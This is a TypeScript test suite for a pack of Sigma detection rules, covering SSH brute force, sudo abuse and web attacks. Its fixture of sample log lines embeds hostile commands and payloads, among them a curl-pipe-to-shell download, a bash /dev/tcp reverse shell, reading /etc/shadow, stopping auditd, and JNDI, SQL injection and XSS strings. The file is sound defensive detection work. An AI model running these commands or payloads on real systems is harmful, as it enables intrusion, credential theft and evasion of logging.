import { existsSync, globSync, readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { parseLine } from '../../collector/parsers/index.ts';
import { readField } from '../../ecs/event.ts';
import { compileRules } from '../../rules/engine/compile.ts';
import { CorrelationRun, eventSecond } from '../../rules/engine/correlation-run.ts';
import { runSamples, sampleEvents } from '../../rules/engine/samples.ts';
import type { Language, Rule } from '../../rules/rule.ts';
import { parseRules } from '../../rules/sigma/parse.ts';
import { joinRules } from '../../rules/sigma/rule-set.ts';
import { ENTITY_FIELDS } from '../../server/alerts/entities.ts';

const folder = new URL('../../rules/packs/', import.meta.url).pathname;
const files = globSync('**/*.yml', { cwd: folder }).sort();
const parsed = files.map((file) => parseRules(readFileSync(`${folder}${file}`, 'utf8'), file));
const rules = parsed.flatMap((file) => file.rules);
const set = joinRules(rules);
const alerting = rules.filter(({ id }) => !set.silent.has(id));
const engine = compileRules(set.detections, 'ecs');
const languages: readonly Language[] = ['vi', 'en', 'km'];

/** ATT&CK Enterprise tactics as Sigma writes them (Sigma 2.1, *Tags*). */
const TACTICS =
  /^attack\.(reconnaissance|resource-development|initial-access|execution|persistence|privilege-escalation|defense-evasion|credential-access|discovery|lateral-movement|collection|command-and-control|exfiltration|impact)$/;
const TECHNIQUE = /^attack\.t\d{4}(\.\d{3})?$/;
const OTHER_TAG = /^cve\.\d{4}-\d{4,}$/;
const KHMER = /[\u1780-\u17ff]/;
const VIETNAMESE = /[ăâđêôơưàáảãạèéẻẽẹìíỉĩịòóỏõọùúủũụỳýỷỹỵấầẩẫậắằẳẵặếềểễệốồổỗộớờởỡợứừửữự]/i;

const LEVELS = { informational: 1, low: 2, medium: 3, high: 4, critical: 5 } as const;

/** Fields that sentences and groups may name: what alerts collect, and the account that an account tool changed. */
const SENTENCE_FIELDS = new Set<string>([...ENTITY_FIELDS, 'count', 'user.target.name', 'url.domain', 'url.original']);

function texts(rule: Rule, language: Language): string[] {
  const { titles, sentences, guidance } = rule.extension;
  const advice = guidance[language];
  const title = language === 'en' ? rule.title : titles[language];
  return [
    title,
    sentences[language],
    advice?.meaning,
    ...(advice?.check ?? []),
    advice?.act,
    advice?.escalate,
  ] as string[];
}

function placeholders(sentence: string | undefined): string[] {
  return [...(sentence ?? '').matchAll(/\{([^} ]*)([^}]*)\}/g)].map((found) => found[1] ?? '').sort();
}

test('the pack parses without a problem and fits together', () => {
  expect(parsed.flatMap((file) => file.problems)).toEqual([]);
  expect(set.problems).toEqual([]);
  expect(alerting.length).toBeGreaterThanOrEqual(60);
});

test('every sample of every rule does what it says', () => {
  const { samples, failures } = runSamples(set);
  expect(failures.map(({ rule, expected, sample }) => `${rule.file} ${rule.title}: ${expected} ${sample}`)).toEqual([]);
  expect(samples).toBeGreaterThanOrEqual(rules.length * 4);
});

test('ids are random UUIDs, and no two rules share one or a title', () => {
  for (const { id } of rules)
    expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
  expect(new Set(rules.map(({ title }) => title)).size).toBe(rules.length);
});

test.each(files)('%s is named <platform>/<tactic>_<what>.yml after a tactic of its first rule', (file) => {
  const [, platform, tactic] =
    /^(linux|web|network|windows|mail|dns|firewall|vpn|database|proxy|haidang|identity|egov)\/([a-z_]+)\.yml$/.exec(
      file,
    ) ?? [];
  expect(platform).toBeDefined();
  const first = rules.find((rule) => rule.file === file);
  const named = first?.tags.filter((tag) => TACTICS.test(tag)).map((tag) => tag.slice(7).replaceAll('-', '_'));
  expect(named?.some((name) => tactic?.startsWith(`${name}_`))).toBe(true);
});

describe.each(rules.map((rule) => [`${rule.file}: ${rule.title}`, rule] as const))('%s', (_name, rule) => {
  test('says what it is, who wrote it, when it errs, and which technique it shows', () => {
    expect(rule.description.length).toBeGreaterThan(40);
    expect(rule.author).toBe('Hải Đăng');
    expect(rule.status).toBe('test');
    expect(rule.yaml).toMatch(/^date: \d{4}-\d{2}-\d{2}$/m);
    expect(rule.falsepositives.length).toBeGreaterThan(0);
    expect(rule.tags.filter((tag) => !TACTICS.test(tag) && !TECHNIQUE.test(tag) && !OTHER_TAG.test(tag))).toEqual([]);
    expect(rule.tags.some((tag) => TACTICS.test(tag))).toBe(true);
    expect(rule.tags.some((tag) => TECHNIQUE.test(tag))).toBe(true);
  });

  test('has two samples that match and two near misses', () => {
    expect(rule.extension.samples.match.length).toBeGreaterThanOrEqual(2);
    expect(rule.extension.samples.noMatch.length).toBeGreaterThanOrEqual(2);
  });
});

describe.each(alerting.map((rule) => [`${rule.file}: ${rule.title}`, rule] as const))('%s', (_name, rule) => {
  test.each(languages)('explains itself in %s: title, sentence, meaning, three checks, act, escalate', (language) => {
    const own = texts(rule, language);
    expect(own).toHaveLength(8);
    for (const text of own) {
      expect(text?.trim().length ?? 0, text).toBeGreaterThan(5);
      expect(KHMER.test(text), text).toBe(language === 'km');
      expect(VIETNAMESE.test(text), text).toBe(language === 'vi');
    }
    expect(rule.extension.guidance[language]?.reviewed).toBe(false);
  });

  test('its sentences hold the same fields in each language, all of them known to alerts', () => {
    const { sentences, groupBy, gapSeconds } = rule.extension;
    const fields = placeholders(sentences.en);
    expect(fields).toContain('count');
    for (const field of [...fields, ...groupBy]) expect(SENTENCE_FIELDS.has(field), field).toBe(true);
    for (const language of languages) expect(placeholders(sentences[language])).toEqual(fields);
    expect(gapSeconds).toBeGreaterThanOrEqual(6 * 3_600);
    // "1 times" is no English; Vietnamese and Khmer have one form.
    expect(sentences.en).toMatch(/\{count [^|{}]+\|[^|{}]+\}/);
  });

  test('one attack is one row: a sample raises no alert of another rule, but lesser ones of its steps', () => {
    const lesser = new Set(rules.filter(({ level }) => LEVELS[level] < LEVELS[rule.level]).map(({ file }) => file));
    const inSteps = rule.kind === 'correlation' && rule.type !== 'event_count';
    for (const sample of rule.extension.samples.match) {
      const rows = rowsOf([...sampleEvents(sample)]).map((row) => row.rule);
      expect(rows.filter((file) => file === rule.file || !inSteps || !lesser.has(file))).toEqual([rule.file]);
    }
  });
});

interface Row {
  readonly rule: string;
  readonly count: number;
}

/** Alert rows of a run of events: one a rule, values of its group, and session. */
function rowsOf(events: readonly object[]): Row[] {
  const run = new CorrelationRun(set, 'ecs');
  const stretches = new Map<string, { rule: Rule; parts: { first: number; last: number; count: number }[] }>();
  const add = (rule: Rule, group: readonly unknown[], part: { first: number; last: number; count: number }): void => {
    const key = JSON.stringify([rule.id, ...group]);
    const row = stretches.get(key) ?? { rule, parts: [] };
    row.parts.push(part);
    stretches.set(key, row);
  };
  for (const [index, event] of events.entries()) {
    const matches = engine.evaluate(event);
    run.add(event, matches, index + 1);
    const second = eventSecond(event) ?? 0;
    for (const rule of matches) {
      if (set.silent.has(rule.id)) continue;
      const group = rule.extension.groupBy.map((field) => readField(event, field));
      add(rule, group, { first: second, last: second, count: 1 });
    }
  }
  for (const { rule, group, ...part } of run.finish()) {
    add(
      rule,
      rule.extension.groupBy.map((field) => group[field]),
      part,
    );
  }
  return [...stretches.values()].flatMap(({ rule, parts }) => {
    const rows: Row[] = [];
    let end = Number.NEGATIVE_INFINITY;
    for (const { first, last, count } of parts.sort((left, right) => left.first - right.first)) {
      const open = rows.at(-1);
      if (open && first - end <= rule.extension.gapSeconds)
        rows[rows.length - 1] = { ...open, count: open.count + count };
      else rows.push({ rule: rule.file, count });
      end = Math.max(end, last);
    }
    return rows;
  });
}

function parseAll(lines: readonly string[], now: number): object[] {
  return lines.map((line) => parseLine(line, 'auto', { now, timeZone: 'UTC', host: 'gateway' }));
}

test('every field that a row of a correlation is kept apart by is one that the correlation counts by', () => {
  for (const rule of set.correlations) {
    for (const field of rule.extension.groupBy) expect(rule.groupBy, rule.file).toContain(field);
  }
});

test('1,000 lines of one brute force, with all that sshd says beside them, are one row', () => {
  const lines = Array.from({ length: 1_000 }, (_, index) => {
    const time = new Date(Date.UTC(2026, 10, 20) + index * 3_000).toISOString();
    const user = ['root', 'invalid user admin', 'invalid user test', 'hoa'][Math.floor(index / 5) % 4];
    const messages = [
      `Invalid user ${user} from 203.0.113.7 port 40022`,
      `Failed password for ${user} from 203.0.113.7 port 40022 ssh2`,
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root',
      `error: maximum authentication attempts exceeded for ${user} from 203.0.113.7 port 40022 ssh2 [preauth]`,
      'Connection closed by 203.0.113.7 port 40022 [preauth]',
    ];
    return `${time} web01 sshd[${1_000 + index}]: ${messages[index % 5]}`;
  });
  const rows = rowsOf(parseAll(lines, Date.UTC(2026, 10, 21)));
  expect(rows.map((row) => row.rule)).toEqual(['linux/credential_access_ssh_brute_force.yml']);
});

test('1,000 failed passwords from one address are one row of 1,000 events', () => {
  const lines = Array.from({ length: 1_000 }, (_, index) => {
    const time = new Date(Date.UTC(2026, 10, 20) + index * 2_000).toISOString();
    return `${time} web01 sshd[77]: Failed password for root from 203.0.113.7 port ${40_000 + index} ssh2`;
  });
  expect(rowsOf(parseAll(lines, Date.UTC(2026, 10, 21)))).toEqual([
    { rule: 'linux/credential_access_ssh_brute_force.yml', count: 1_000 },
  ]);
});

const SYSLOG = '2026-11-20T03:04:05Z web01';
const web = (request: string, status = 200, agent = 'Mozilla/5.0'): string =>
  `203.0.113.9 - - [20/Nov/2026:03:04:05 +0000] "${request} HTTP/1.1" ${status} 512 "-" "${agent}"`;
const sudo = (command: string): string =>
  `${SYSLOG} sudo:     lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=${command}`;

/** Lines as programs write them, and the rule that each must reach through its parser; null where none may. */
const LINES: readonly (readonly [string, string | null])[] = [
  [
    `${SYSLOG} sshd[9]: Accepted password for root from 203.0.113.9 port 22 ssh2`,
    'initial_access_ssh_root_password_login',
  ],
  [`${SYSLOG} sshd-session[9]: Accepted publickey for root from 203.0.113.9 port 22 ssh2: ED25519 SHA256:x`, null],
  [
    `${SYSLOG} sshd[9]: Failed password for invalid user Accepted password for root from 203.0.113.9 port 22 ssh2`,
    null,
  ],
  [sudo('/bin/bash'), 'privilege_escalation_sudo_root_shell'],
  [sudo('/usr/bin/apt-get update'), null],
  [sudo('/bin/bash -c curl -fsSL http://203.0.113.9/i.sh | sh'), 'execution_sudo_download_and_run'],
  [sudo('/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1'), 'execution_sudo_reverse_shell'],
  [sudo('/usr/bin/less /etc/profile !/bin/sh'), 'privilege_escalation_sudo_shell_escape'],
  [sudo('/usr/bin/truncate -s 0 /var/log/auth.log'), 'defense_evasion_sudo_log_tampering'],
  [sudo('/bin/systemctl stop auditd'), 'defense_evasion_sudo_logging_stopped'],
  [sudo('/usr/sbin/ufw disable'), 'defense_evasion_sudo_firewall_off'],
  [sudo('/usr/sbin/visudo'), 'persistence_sudo_account_files'],
  [sudo('/bin/cat /etc/shadow'), 'credential_access_sudo_shadow_read'],
  [sudo('/usr/bin/crontab -e'), 'persistence_sudo_cron'],
  [sudo('/usr/bin/crontab -u root -l'), null],
  [sudo('/bin/cat /etc/crontab /etc/hosts'), null],
  [sudo('/usr/bin/tee -a /root/.ssh/authorized_keys'), 'persistence_sudo_authorized_keys'],
  [sudo('/usr/bin/nano /etc/ssh/sshd_config'), 'persistence_sudo_sshd_config'],
  [
    `${SYSLOG} sudo:  hoa : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash`,
    'credential_access_sudo_incorrect_password',
  ],
  [
    `${SYSLOG} sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh`,
    'privilege_escalation_sudo_user_not_in_sudoers',
  ],
  [`${SYSLOG} su[9]: FAILED SU (to root) hoa on pts/1`, 'privilege_escalation_su_root_failed'],
  [
    `${SYSLOG} useradd[9]: new user: name=hoa, UID=1004, GID=1004, home=/home/hoa, shell=/bin/bash, from=none`,
    'persistence_user_created',
  ],
  [
    `${SYSLOG} useradd[9]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash`,
    'persistence_second_root_account',
  ],
  [`${SYSLOG} usermod[9]: add 'hoa' to group 'sudo'`, 'persistence_user_added_to_admin_group'],
  [`${SYSLOG} kernel: device eth0 entered promiscuous mode`, 'credential_access_promiscuous_interface'],
  [web('GET /f?name=../../../etc/passwd'), 'initial_access_path_traversal'],
  [web('GET /tin.php?id=-1%20union%20select%201,2'), 'initial_access_sql_injection'],
  [web("GET /tin.php?id=1'+or+1=1--"), 'initial_access_sql_injection'],
  [web('GET /?q=%3Cscript%3Ealert(1)%3C/script%3E'), 'initial_access_cross_site_scripting'],
  [web('GET /ping?ip=8.8.8.8;id'), 'execution_command_injection'],
  [web('GET /', 200, `$\{jndi:ldap://203.0.113.9/a}`), 'initial_access_jndi_lookup'],
  [web('POST /uploads/images/a.php'), 'persistence_web_shell'],
  [web('POST /uploads/images/a.php', 404), null],
  [web('GET /images/a.php.jpg'), null],
  [web('GET /.git/config', 404), 'credential_access_secret_file_probe'],
  [web('GET /.env'), 'credential_access_secret_file_served'],
  [
    web('GET /index.php?page=php://filter/convert.base64-encode/resource=index'),
    'initial_access_php_wrapper_or_remote_file',
  ],
  [web('GET /', 200, 'sqlmap/1.8'), 'reconnaissance_scanner_user_agent'],
  [web('PROPFIND /', 405), 'initial_access_unusual_method'],
  [web('GET /tim-kiem?q=quy+trinh+cap+giay+phep;trang=2'), null],
  [web('GET /tim-kiem?q=select+committee+union+of+provinces'), null],
  [web('GET /images/banner.jpg?v=../1'), null],
  [web('POST /api/v1/ho-so'), null],
];

test.each(LINES)('%s', (line, rule) => {
  const [event] = parseAll([line], Date.UTC(2026, 10, 21));
  const found = engine.evaluate(event ?? {}).filter(({ id }) => !set.silent.has(id));
  expect(found.map(({ file }) => file.replace(/^.*\/|\.yml$/g, ''))).toEqual(rule === null ? [] : [rule]);
});

const logs = new URL('../../../shared/data/logs/', import.meta.url);
const real = (name: string): string[] =>
  gunzipSync(readFileSync(new URL(name, logs)))
    .toString('utf8')
    .split('\n')
    .filter((line) => line !== '');

describe.runIf(existsSync(new URL('auth.log.gz', logs)))('on real logs', () => {
  test('24 days of a server under attack give at most 20 rows', () => {
    const rows = rowsOf(parseAll(real('auth.log.gz'), Date.UTC(2017, 3, 21)));
    expect(rows.length).toBe(11);
    expect(rows.filter(({ rule }) => rule === 'linux/initial_access_ssh_success_after_failures.yml').length).toBe(1);
  });

  test('10,000 ordinary web requests give few rows and no serious one', () => {
    const rows = rowsOf(parseAll(real('apache_access.log.gz'), Date.UTC(2015, 5, 1)));
    expect(rows.length).toBeLessThanOrEqual(3);
    const serious = rules.filter(({ level }) => level === 'high' || level === 'critical').map(({ file }) => file);
    expect(rows.filter(({ rule }) => serious.includes(rule))).toEqual([]);
  });
});
